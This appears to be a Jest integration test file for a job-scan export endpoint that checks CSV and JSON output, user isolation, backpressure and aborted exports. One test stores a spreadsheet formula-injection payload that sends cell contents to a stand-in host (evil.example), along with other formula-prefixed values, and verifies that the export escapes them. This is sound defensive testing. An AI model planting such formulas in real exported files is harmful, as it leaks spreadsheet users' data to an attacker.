import { request } from 'node:http';
import { apiBasePath, exportedJobSchema, type MatchSkill } from '@rolefit/contracts';
import {
  AccountsRepository,
  SavedScansRepository,
  ScanExportRepository,
  SessionsRepository,
} from '@rolefit/database';
import { aMatch, aResume, aScan } from '@rolefit/database/testing';
import { aQuote } from '@rolefit/testing';
import { z } from 'zod/mini';
import {
  problemOf,
  type SignedInCaller,
  startGateway,
  type TestGateway,
} from '../testing/gateway.fixture.js';

let gateway: TestGateway;
let ada: SignedInCaller;

beforeAll(async () => {
  gateway = await startGateway();
});
beforeEach(async () => {
  ada = await gateway.signIn();
});
afterAll(() => gateway?.close());

const path = `${apiBasePath}/jobs/export`;
const query = <Row>(sql: string, parameters: unknown[]) =>
  gateway.database.dataSource.query<Row>(sql, parameters);
const today = () => new Date().toISOString().slice(0, 10);
const waitMs = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
const json = async (caller = ada) =>
  z
    .array(z.catchall(exportedJobSchema, z.never()))
    .parse((await caller.call('GET', `${path}?format=json`)).body);

/** The raw bytes: `fetch` would strip the byte order mark from text. */
async function csvText(caller = ada): Promise<string> {
  const answer = await fetch(`${gateway.url}${path}?format=csv`, {
    headers: { authorization: `Bearer ${caller.accessToken}` },
  });
  return new TextDecoder('utf-8', { ignoreBOM: true }).decode(await answer.arrayBuffer());
}

/** Parses a CSV file according to RFC 4180. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, bare = '', end] of text.matchAll(
    /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g,
  )) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? bare);
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}

async function csv(caller = ada): Promise<Record<string, string>[]> {
  const [names = [], ...rows] = parseCsv((await csvText(caller)).slice(1));
  return rows.map((row) =>
    Object.fromEntries(names.map((name, index) => [name, row[index] ?? 'no cell'])),
  );
}

const skill = (name: string): MatchSkill => ({
  name,
  importance: 'required',
  credit: 0.5,
  postingQuote: aQuote(name),
  resumeQuote: null,
  via: null,
});

/** A completed scan with a match, as stored by a worker. */
async function aCompletedScan(
  userId: string,
  overrides: Parameters<typeof aScan>[2] = {},
): Promise<string> {
  const scan = await aScan(gateway.database.dataSource, userId, overrides);
  const resume = await aResume(gateway.database.dataSource, userId);
  const match = {
    ...aMatch(74),
    matchSkills: [skill('Go'), skill('C++')],
    missingSkills: [skill('Zürich, "dialect"'), skill('=Rust')],
  };
  await query(
    `UPDATE scans SET status = 'completed', score = $2, overall_score = 74, ready_to_apply = true, former_score = 61, former_score_at = now() WHERE id = $1`,
    [scan.id, match.score],
  );
  await query(
    `INSERT INTO matches (scan_id, user_id, resume_id, profile_revision, posting_hash, analyser, match) VALUES ($1, $2, $3, 1, 'x', 'x', $4)`,
    [scan.id, userId, resume.id, match],
  );
  return scan.id;
}

/** Thousands of scans with long texts, some with the same timestamp. */
async function fill(userId: string, count: number): Promise<void> {
  const step = 2_000;
  for (let from = 1; from <= count; from += step) {
    await query(
      `INSERT INTO scans (id, user_id, job_id, company_name, logo, url, posting_text, posting_hash, status, created_at)
       SELECT gen_random_uuid(), $1, 'job-' || n, 'Example Ltd', repeat('x', 2000), 'https://example.org/' || repeat('x', 2000), 'x', 'x', 'queued',
         date_trunc('seconds', now()) - n / 3 * interval '1 second'
       FROM generate_series($2::int, $3::int) n`,
      [userId, from, Math.min(count, from + step - 1)],
    );
  }
}

describe('scan export', () => {
  it('is a file with a name and a date, in the requested format', async () => {
    for (const [format, type] of [
      ['csv', 'text/csv; charset=utf-8'],
      ['json', 'application/json; charset=utf-8'],
    ]) {
      const before = today();
      const { status, headers } = await ada.call('GET', `${path}?format=${format}`);
      // The test may run across midnight.
      const names = [before, today()].map(
        (day) => `attachment; filename="rolefit-jobs-${day}.${format}"`,
      );
      expect([status, headers.get('content-type')]).toEqual([200, type]);
      expect(names).toContain(headers.get('content-disposition'));
    }
    expect((await ada.call('GET', path)).headers.get('content-type')).toBe(
      'text/csv; charset=utf-8',
    );
    const head = await ada.call('HEAD', `${path}?format=json`);
    expect([head.status, head.headers.get('content-type'), head.body]).toEqual([
      200,
      'application/json; charset=utf-8',
      '',
    ]);
  });

  it('rejects an unknown format', async () => {
    const problem = problemOf(await ada.call('GET', `${path}?format=xml`));
    expect([problem.status, problem.error.fields]).toEqual([
      400,
      { format: 'format must be csv or json' },
    ]);
  });

  it('is an empty list, or a header line, without scans', async () => {
    expect(await json()).toEqual([]);
    const text = await csvText();
    expect(text.startsWith('\ufeff"title","companyName","url","status",')).toBe(true);
    expect(text.split('\r\n')).toHaveLength(2);
  });

  it('contains all fields of each scan, newest first', async () => {
    const id = await aCompletedScan(ada.user.id, {
      title: 'Gärtnerin, 漢字 "🌱"\u2019s',
      jobId: 'one',
    });
    await new SavedScansRepository(gateway.database.dataSource).save(ada.user.id, id, {
      stage: 'interview',
      note: 'Call Zoë,\nthen wait',
    });
    await aScan(gateway.database.dataSource, ada.user.id, { jobId: 'two' });
    const [newest, oldest] = await json();
    expect([newest?.jobId, newest?.score, newest?.missingSkills]).toEqual(['two', null, []]);
    expect(oldest).toMatchObject({
      _id: id,
      title: 'Gärtnerin, 漢字 "🌱"\u2019s',
      status: 'completed',
      readyToApply: true,
      formerScore: 61,
      score: { overallScore: 74, titleScore: null },
      matchSkills: ['Go', 'C++'],
      missingSkills: ['Zürich, "dialect"', '=Rust'],
      saved: { stage: 'interview', note: 'Call Zoë,\nthen wait' },
    });
    const [second, first] = await csv();
    expect(first).toEqual({
      title: 'Gärtnerin, 漢字 "🌱"\u2019s',
      companyName: 'Example Ltd',
      url: 'https://example.org/jobs/1',
      status: 'completed',
      failure: '',
      overallScore: '74',
      skillsScore: '74',
      experienceScore: '',
      responsibilitiesScore: '',
      titleScore: '',
      educationScore: '',
      languageScore: '',
      formerScore: '61',
      readyToApply: 'true',
      matchSkills: 'Go; C++',
      missingSkills: 'Zürich, "dialect"; =Rust',
      stage: 'interview',
      note: 'Call Zoë,\nthen wait',
      savedAt: oldest?.saved?.savedAt,
      createdAt: oldest?.createdAt,
      updatedAt: oldest?.updatedAt,
      archivedAt: '',
      jobId: 'one',
      _id: id,
    });
    expect(second).toMatchObject({
      title: '',
      status: 'queued',
      overallScore: '',
      readyToApply: '',
      matchSkills: '',
      stage: '',
      note: '',
    });
  });

  it('escapes formulas in texts of postings and users', async () => {
    const attack = '=HYPERLINK("https://evil.example?"&A1;"x")';
    const id = await aCompletedScan(ada.user.id, {
      title: attack,
      companyName: '+49 Ltd',
      jobId: '@SUM(A1)',
    });
    await new SavedScansRepository(gateway.database.dataSource).save(ada.user.id, id, {
      note: '-2+3',
    });
    await query(
      `UPDATE matches SET match = jsonb_set(match, '{missingSkills,0,name}', '"=cmd"') WHERE scan_id = $1`,
      [id],
    );
    const [row] = await csv();
    expect(row).toMatchObject({
      title: `'${attack}`,
      companyName: "'+49 Ltd",
      jobId: "'@SUM(A1)",
      note: "'-2+3",
      missingSkills: "'=cmd; =Rust",
    });
    expect((await json())[0]).toMatchObject({ title: attack, companyName: '+49 Ltd' });
  });

  it('never contains another user’s scans', async () => {
    const bob = await gateway.signIn();
    await aCompletedScan(bob.user.id);
    expect([await json(), await csv()]).toEqual([[], []]);
    expect(await json(bob)).toHaveLength(1);
  });
});

describe('an export of very many scans', () => {
  it('contains each scan once, also scans with the same timestamp', async () => {
    await fill(ada.user.id, 2_345);
    const jobs = await json();
    expect(new Set(jobs.map(({ jobId }) => jobId)).size).toBe(2_345);
    expect(jobs.map(({ createdAt }) => createdAt)).toEqual(
      jobs
        .map(({ createdAt }) => createdAt)
        .sort()
        .reverse(),
    );
    expect(await csv()).toHaveLength(2_345);
  });

  it('applies backpressure, and stops reading when the client disconnects', async () => {
    const count = 12_000;
    await fill(ada.user.id, count);
    const page = jest.spyOn(gateway.app.get(ScanExportRepository), 'page');
    const gone = new Promise<number>((resolve, reject) => {
      const call = request(
        `${gateway.url}${path}?format=json`,
        { headers: { authorization: `Bearer ${ada.accessToken}` } },
        async (answer) => {
          answer.pause();
          // No page is read for this long: all buffers are full.
          for (let [last, since] = [0, Date.now()]; Date.now() - since < 1_500; await waitMs(20))
            if (last !== page.mock.calls.length)
              [last, since] = [page.mock.calls.length, Date.now()];
          const read = page.mock.calls.length;
          answer.destroy();
          resolve(read);
        },
      );
      call.on('error', reject).end();
    });
    const read = await gone;
    // Socket buffers of both sides hold a few of fifty megabytes.
    expect(read).toBeLessThan(count / 500 / 2);
    await waitMs(300);
    expect(page.mock.calls.length).toBeLessThanOrEqual(read + 1);
    page.mockRestore();
  });

  it.each([
    [
      'the account is deleted',
      () => new AccountsRepository(gateway.database.dataSource).delete(ada.user.id),
    ],
    [
      'its session ends',
      () => new SessionsRepository(gateway.database.dataSource).endAll(ada.user.id, null),
    ],
  ])('aborts, and is no complete file, when %s in between', async (_, end) => {
    await fill(ada.user.id, 1_200);
    const repository = gateway.app.get(ScanExportRepository);
    const real = repository.page.bind(repository);
    const page = jest.spyOn(repository, 'page').mockImplementation(async (userId, after, limit) => {
      if (after !== null) await end();
      return real(userId, after, limit);
    });
    await expect(csvText()).rejects.toThrow();
    // No page is read after the aborting one.
    expect(page.mock.calls.filter(([userId]) => userId === ada.user.id)).toHaveLength(2);
    page.mockRestore();
  });

  it('aborts, and is no complete file, when the database goes down in between, and fails before it starts when it is down already', async () => {
    await fill(ada.user.id, 1_200);
    const repository = gateway.app.get(ScanExportRepository);
    const away = Object.assign(new Error('connect'), { code: 'ECONNREFUSED' });
    const real = repository.page.bind(repository);
    const page = jest
      .spyOn(repository, 'page')
      .mockImplementation((userId, after, limit) =>
        after === null ? real(userId, after, limit) : Promise.reject(away),
      );
    await expect(csvText()).rejects.toThrow();
    // The client may notice first.
    const isLogged = () => gateway.log.some((line) => line.includes('Scan export aborted'));
    for (const deadline = Date.now() + 120_000; !isLogged() && Date.now() < deadline;)
      await waitMs(20);
    expect(isLogged()).toBe(true);
    page.mockRejectedValue(away);
    expect(problemOf(await ada.call('GET', path)).error.code).toBe('SERVICE_UNAVAILABLE');
    page.mockRestore();
    expect(await csv()).toHaveLength(1_200);
  });
});
